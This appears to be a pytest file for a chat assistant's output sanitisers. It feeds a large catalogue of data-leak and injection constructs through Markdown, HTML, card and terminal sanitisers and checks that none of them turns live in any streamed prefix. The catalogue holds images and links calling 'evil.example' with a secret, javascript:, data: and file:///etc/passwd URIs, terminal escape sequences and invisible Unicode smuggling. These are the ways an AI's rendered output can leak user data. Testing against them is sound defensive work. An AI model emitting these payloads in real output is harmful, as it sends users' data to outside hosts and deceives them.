"""Ways to leak through what is shown, each in three ways of streaming: none of them is alive in any prefix."""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterator

import pytest

from copilot.trust.sanitise import (
    CardSanitiser,
    HtmlSanitiser,
    MarkdownSanitiser,
    TerminalSanitiser,
    safe_html,
)
from tests.trust.renderers import CONTROLS, unsafe

E = "https://evil.example/leak?d=SECRET"

CONSTRUCTS = {
    # inline links and images
    "image": f"Look: ![logo]({E})",
    "image without text": f"![]({E})",
    "image with title": f'![a]({E} "title")',
    "image in angle brackets": f"![a](<{E}>)",
    "image with spaces": f"![a](   {E}   )",
    "image over lines": f"![a\nb](\n{E}\n)",
    "image target on next line": f"![a](\n{E})",
    "image, escaped bracket": f"![a\\]b]({E})",
    "image, nested brackets": f"![a [b] c]({E})",
    "image, unbalanced": f"![a [b c]({E})",
    "image in a link": f"[![a]({E})]({E})",
    "link in an image": f"![[a]({E})]({E})",
    "image unfinished": f"![a]({E}",
    "image in list": f"- item\n  - ![a]({E})",
    "image in quote": f"> > ![a]({E})",
    "image over quote lines": f"> ![a\n> b](\n> {E})",
    "image in table": f"| a | b |\n|---|---|\n| ![a]({E}) | x |",
    "image in heading": f"# ![a]({E})\n\nx\n---\n![b]({E})\n===",
    "image in emphasis": f"**![a]({E})** _![a]({E})_ ~~![a]({E})~~",
    "image in footnote": f"See[^1].\n\n[^1]: ![a]({E})",
    "image behind escaped bang": f"\\![a]({E})",
    "image behind two backslashes": f"\\\\![a]({E})",
    "link": f"[click]({E})",
    "link, other host shown": f"[https://good.example]({E})",
    "link with lookalike text": f"[good.example/login]({E})",
    "link, nested parentheses": f"[a]({E}(b)(c(d)))",
    "link, unbalanced parentheses": f"[a]({E}(b)",
    "link, escaped parenthesis": f"[a]({E}\\)b)",
    "link, entity in target": "[a](https&#58;//evil.example&#47;x)",
    "link, named entities": "[a](https&colon;&sol;&sol;evil.example)",
    "link, empty text": f"[]({E})",
    "link, invisible text": f"[\u200b\u2060]({E})",
    "link, title in parentheses": f"[a]({E} (title))",
    "link, title over lines": f'[a]({E} "t\nu")',
    "link, backslash before space": f"[a]\\ ({E})",
    "link, code in text": f"[`code`]({E}) and [`a]({E})`]({E})",
    "link behind an index": f"a[0][1]({E})",
    "link in brackets": f"[[a]({E})]",
    "link, target closes nothing": f"[a](<{E}\n>)",
    "link in task list": f"- [ ] [a]({E})\n- [x] ![b]({E})",
    "link, space before target": f"[a] ({E})",
    "link, zero width before target": f"[a]\u200b({E})\n![a]\u2060({E})",
    "link, reference before target": f"[a]&#x200b;({E}) ![a]&shy;({E})",
    "link, tag character before target": f"[a]\U000e0041({E})",
    "link, control before target": f"![a]\x00({E})\n![a\x1b[0m]({E})",
    # references
    "reference": f"[a][r]\n\n[r]: {E}",
    "reference first": f"[r]: {E}\n\n![a][r]",
    "collapsed reference": f"![r][]\n\n[r]: {E}",
    "shortcut reference": f"![r]\n\n[r]: {E}",
    "reference with title": f'[a][r]\n\n[r]: {E} "t"',
    "reference, target on next line": f"![r]\n\n[r]:\n{E}",
    "reference, title on next line": f"![r]\n\n[r]: {E}\n'title'",
    "reference in angle brackets": f"![r]\n\n[r]: <{E}>",
    "reference in quote": f"![r]\n\n> [r]: {E}",
    "reference in list": f"![r]\n\n- [r]: {E}\n1. [s]: {E}",
    "reference, case folded": f"![R]\n\n[r]: {E}",
    "reference, escaped label": f"![a\\]b]\n\n[a\\]b]: {E}",
    "reference, label over lines": f"![a b]\n\n[a\nb]: {E}",
    "reference, indented": f"![r]\n\n   [r]: {E}",
    "reference, one word": "![r]\n\n[r]: leak",
    "reference, word and title": '![r]\n\n[r]: leak "title"',
    "footnote as reference": f"![^1]\n\n[^1]: {E}",
    "footnote, one word": "[^1]\n\n[^1]: word",
    "reference, invisible before colon": f"![r]\n\n[r]\u200b: {E}",
    "reference, entity before colon": f"![r]\n\n[r]&zwnj;: {E}",
    "reference, link makes the label": f"![r]\n\n[[r](u)]: {E}",
    "reference, link makes the colon": f"![r]\n\n[r][: {E}](u)",
    # autolinks and addresses
    "autolink": f"<{E}>",
    "autolink with event": "<https://x/onclick=alert(1)>",
    "autolink, script": "<javascript:alert(1)>",
    "autolink in angle brackets": f"<<{E}>img src=x>",
    "autolink, international": "<https://\u0430\u0440\u0440\u04cf\u0435.example/>",
    "mail autolink": "<mailto:a@evil.example?body=SECRET>",
    "bare address": f"see {E}.",
    "bare address, international": "https://\u0430pple.example/x",
    "bare address with user": "https://good.example@evil.example/x",
    "link with user": "[a](https://good.example@evil.example/x)",
    "link, international": "[a](https://\u0430pple.example/x)",
    "link, punycode": "[apple](https://xn--pple-43d.example/)",
    "link, full width": "[a](https://good.example\uff0f@evil.example)",
    "link, backslash": "[a](https:\\\\evil.example\\x)",
    "mailto": "[a](mailto:a@evil.example?body=SECRET)",
    "data": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "data image": "![a](data:image/svg+xml;utf8,<svg/onload=alert(1)>)",
    "javascript": "[a](javascript:alert(1)) [b](JaVa\tscript:alert(1)) [c](java&#10;script:x)",
    "vbscript": "[a](vbscript:msgbox)",
    "file": "[a](file:///etc/passwd) ![b](file://evil.example/x.png)",
    "share": "[a](\\\\evil.example\\share) ![b](\\\\evil.example\\x.png)",
    "no scheme": "[a](//evil.example/x) ![b](//evil.example/x.png)",
    "ms-": "[a](ms-word:ofe|u|https://evil.example/x.docm)",
    "long target": f"![a]({E}{'x' * 9000})",
    "long text": f"![{'x' * 9000}]({E})",
    "percent": "[a](%68ttps://evil.example) ![a](https%3A%2F%2Fevil.example)",
    "double encoding": "![a](https://evil.example/%2525) &amp;lt;img src=x&amp;gt;",
    "www": "www.evil.example/SECRET",
    # HTML
    "img": f"<img src='{E}'>",
    "img, upper case": f"<IMG SRC={E}>",
    "img, slash": f"<img/src={E}>",
    "img, over lines": f"<img\nsrc='{E}'\n>",
    "img, unfinished": f"text <img src='{E}",
    "img, null": f"<im\x00g src='{E}'>",
    "img, invisible": f"<\u200bimg src='{E}'>",
    "img, escape sequence": f"<\x1b[0mimg src='{E}'>",
    "img, entity": f"<&#x200b;img src='{E}'> &#60;img src='{E}'&#62;",
    "img, escaped": f"\\<img src='{E}'> \\\\<img src='{E}'>",
    "img, made by a link": f"<[img](x) src='{E}'>",
    "img, made by a reference": f"<&shy;img src='{E}'>",
    "img in alt": f"![<img src='{E}'>]({E})",
    "img in title": f"[a](u \"<img src='{E}'>\")",
    "img in target": f"[a](<img src='{E}'>)",
    "picture": f"<picture><source srcset='{E}'><img></picture>",
    "svg": f"<svg><image href='{E}'/><script>x</script></svg>",
    "style": f"<p style=\"background:url('{E}')\">x</p>",
    "style element": f"<style>@import '{E}';</style>",
    "css escapes": "<div style='background:\\75\\72\\6c(//evil.example)'>",
    "link element": f"<link rel=prefetch href='{E}'>",
    "iframe": f"<iframe src='{E}'></iframe>",
    "meta": f"<meta http-equiv=refresh content='0;url={E}'>",
    "object": f"<object data='{E}'></object><embed src='{E}'>",
    "form": f"<form action='{E}'><input type=image src='{E}'><button formaction='{E}'>x</button></form>",
    "a": f"<a href='{E}'>good.example</a>",
    "a with Markdown": f"<a href='{E}'>**[x]({E})**</a>",
    "base": f"<base href='{E}'>",
    "video": f"<video poster='{E}'><track src='{E}'></video><audio src='{E}'>",
    "details": f"<details open ontoggle=x><summary>s</summary>![a]({E})</details>",
    "comment": f"<!-- ![a]({E}) --><!--><img src='{E}'>-->",
    "cdata": f"<![CDATA[<img src='{E}'>]]>",
    "declaration": "<!DOCTYPE html><?php x ?>",
    "unknown with attribute": f"say <x onclick=a> <custom-tag style='background:url({E})'>",
    "unknown starts a block": f"<int>\n`<img src='{E}'>`",
    "unknown in list starts a block": f"1. <int>\n`<img src='{E}'>`",
    "closing tags": "a </T> </script></style>",
    "table in HTML": f"<table background='{E}'><tr><td>x</table>",
    "body": f"<body background='{E}' onload=x>",
    # code that is none
    "code unfinished": f"`![a]({E}) <img src='{E}'>",
    "code over lines": f"it`s\n`<img src='{E}'>` ![a]({E})",
    "code, other length": f"``![a]({E})` <img src='{E}'>",
    "code, escaped": f"\\`<img src='{E}'>` \\`![a]({E})`",
    "code in table cells": f"| a | b |\n|---|---|\n| `a | <img src='{E}'> ` |",
    "code in table, shifted": f"| a | b | c |\n|---|---|---|\n| `a|b` <img src='{E}'> `c` |",
    "code over items": f"- a `b\n- c` <img src='{E}'> `d`",
    "code broken by a link": f"[a`](u) `<img src='{E}'>`\n`<img src='{E}'>`",
    "code broken in a target": f"[a](`) `<img src='{E}'> [b](`)",
    "fence unfinished": f"```\n![a]({E})\n",
    "fence, info": f"```html <img src='{E}'>\nx\n```\n```![a]({E})\nx\n```",
    "fence, info with backtick": f"``` a`b <img src='{E}'>\n<img src='{E}'>\n```",
    "fence in list ended": f"- ```\n<img src='{E}'>\n",
    "fence in list, ended by indent": f"- a\n\n  ```\n<img src='{E}'>\n```\n",
    "fence in list, twice": f"- ```\n  x\n  ```\n<img src='{E}'>\n  ```\n<img src='{E}'>\n",
    "fence in quote ended": f"> ```\n<img src='{E}'>\n",
    "fence in quote, parity": f"> ```\n\n```\n```\n<img src='{E}'>\n",
    "fence, tildes": f"~~~\n```\n~~~\n![a]({E})\n```\n<img src='{E}'>",
    "fence, shorter end": f"````\n```\n````\n<img src='{E}'>\n",
    "fence, indented four": f"para\n    ```\n<img src='{E}'>\n    ```\n",
    "fence, indented in lists": f"1. a\n   - b\n\n     ```\n     x\n     ```\n     <img src='{E}'>\n",
    "fence made by a link": f"[```](x)\ntext\n\n```\n<img src='{E}'>\n",
    "fence made by a reference": f"&shy;```\n\n```\n<img src='{E}'>\n",
    "fence, info loses its backtick": f"``` [a](`)\n\n```\n<img src='{E}'>\n",
    "indented code in list": f"- a\n\n    <img src='{E}'>",
    "indented code made by a link": f"para\n\n [- x](u)\n\n    <img src='{E}'>",
    "indented paragraph": f"para\n    <img src='{E}'> ![a]({E})",
    # other syntax
    "latex": f"$\\href{{{E}}}{{x}}$ \\includegraphics{{{E}}} \\url{{{E}}}",
    "latex, style": "\\htmlStyle{background:url(//evil.example)}{x}",
    "wiki": f"![[{E}]] [[{E}|text]]",
    "slack": f"<{E}|good.example> <!channel> <@U123> <#C1|general>",
    "teams": '<at id="1">Someone</at>',
    "card": f'{{"type":"Image","url":"{E}"}} {{"type":"Action.OpenUrl","url":"{E}"}}',
    "shortcode": f":smile: {{{{< figure src='{E}' >}}}} :evil:",
    "brackets that look alike": f"\uff3ba\uff3d\uff08{E}\uff09 !\u301aa\u301b({E})",
    # terminals
    "colour": "\x1b[31mred\x1b[0m",
    "hyperlink": f"\x1b]8;;{E}\x1b\\good\x1b]8;;\x1b\\",
    "hyperlink, C1": f"\x9d8;;{E}\x9cgood\x9d8;;\x9c",
    "clipboard": "\x1b]52;c;U0VDUkVU\x07",
    "title": "\x1b]0;x\x07\x1b]2;y\x1b\\",
    "iTerm picture": "\x1b]1337;File=inline=1:AAAA\x07",
    "device control": "\x1bP$q\x1b\\\x90x\x9c\x1b_Ga=T;AAAA\x1b\\",
    "overwriting": "approve\rdeny\b\b\b\b\x7f",
    "unfinished sequences": "a\x1b[\x1b]\x1bP\x9b\x1b",
    # characters
    "bidi": "a\u202eb\u2066c\u2069\u200f\u061c",
    "tags": "a" + "".join(chr(0xE0000 + ord(c)) for c in "SECRET"),
    "variation selectors": "a" + "".join(chr(0xE0100 + n) for n in range(20)) + "\ufe00\ufe01",
    "invisible": "a\u200bb\u2060c\ufeffd\u2062e\u2063\u2064f\u00adg\u034fh\u3164\uffa0\u115f",
    "joiners": "a\u200d\u200c\u200db",
    "private": "a\ue000b\uf8ffc\U000f0000\U0010fffd",
    "annotation": "a\ufff9b\ufffac\ufffb",
    "marks": "a" + "\u0301" * 5000,
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "as references": "&#x202e;&#8238;&rlm;&#xE0041;&ZeroWidthSpace;&InvisibleTimes;&#x2066 ",
    "a reference in pieces": "&#x20&#x202e;2e; &#x20[2e;](u) &[#x202e;](u) [&#x20](&#x20)2e;",
    "references that go on": "&#x20<a:2e;> &am<http://p;>",
    "mixed line ends": f"![a](\r\n{E}\r\n)\r[r]:\r\n{E}\r\n",
    "surrogates": "a\ud83d\udc80\udfffb",
}
ELEMENTS_OF_MARKDOWN = set(
    "p h1 h2 ul ol li blockquote pre code em strong s hr br table thead tbody tr th td".split()  # noqa: SIM905
)
SANITISERS: dict[str, Callable[[], MarkdownSanitiser]] = {
    "terminal": TerminalSanitiser,
    "Markdown": MarkdownSanitiser,
    "card": CardSanitiser,
}
WAYS = ("whole", "characters", "pieces")


def pieces(text: str, way: str) -> Iterator[str]:
    if way == "whole":
        yield text
        return
    rolled = random.Random(len(text))
    at = 0
    while at < len(text):
        size = 1 if way == "characters" else rolled.randint(1, 12)
        yield text[at : at + size]
        at += size


def prefixes(sanitiser: MarkdownSanitiser, text: str, way: str) -> list[str]:
    """Return the text as it is on the screen after each piece, and at the end."""
    shown = [""]
    for piece in pieces(text, way):
        shown.append(shown[-1] + sanitiser.feed(piece))
    shown.append(shown[-1] + sanitiser.close())
    return list(dict.fromkeys(shown))


def thinned(shown: list[str]) -> list[str]:
    """Return the prefixes to look at: all of a short text, some of a very long one."""
    return shown if len(shown) < 400 else [*shown[:: len(shown) // 20], shown[-1]]


@pytest.mark.parametrize("kind", SANITISERS)
@pytest.mark.parametrize("name", CONSTRUCTS)
def test_every_prefix_is_safe(name: str, kind: str) -> None:
    text = CONSTRUCTS[name]
    ways = {way: prefixes(SANITISERS[kind](), text, way) for way in WAYS}
    assert len({shown[-1] for shown in ways.values()}) == 1
    for prefix in dict.fromkeys(p for shown in ways.values() for p in thinned(shown)):
        assert unsafe(prefix) == [], prefix
    again = prefixes(SANITISERS[kind](), ways["whole"][-1], "whole")[-1]
    assert again == ways["whole"][-1]


@pytest.mark.parametrize("name", CONSTRUCTS)
def test_html_of_it_has_no_elements(name: str) -> None:
    text = CONSTRUCTS[name]
    for way in WAYS:
        shown = prefixes(HtmlSanitiser(), text, way)[-1]
        assert "<" not in shown
        assert ">" not in shown
        assert not CONTROLS.search(shown)
    made = safe_html(text)
    assert set(re.findall(r"<([A-Za-z]\w*)", made)) <= ELEMENTS_OF_MARKDOWN
    assert not re.search(r"<[^>]*(?:href|src|style|on\w+)\s*=", made)


@pytest.mark.parametrize("name", [n for n, text in CONSTRUCTS.items() if E in text and "long" not in n])
def test_the_target_is_still_to_be_read(name: str) -> None:
    shown = prefixes(MarkdownSanitiser(), CONSTRUCTS[name], "whole")[-1]
    escapes = ("hyperlink", "hyperlink, C1")
    assert name in escapes or "evil.example/leak?d=SECRET" in shown


def test_an_allowed_link_stays_one() -> None:
    def allowed(address: str) -> bool:
        return address.startswith("https://good.example/")

    text = "[a](https://good.example/x) [b [c] `d` <i>](https://good.example/y) [e](https://evil.example/) ![f](https://good.example/z)"
    shown = prefixes(MarkdownSanitiser(allowed), text, "characters")[-1]
    assert shown == (
        "[a](https://good.example/x) [b \\[c\\] \\`d\\` &lt;i>](https://good.example/y) e (https://evil.example/) "
        "image: f (https://good.example/z)"
    )
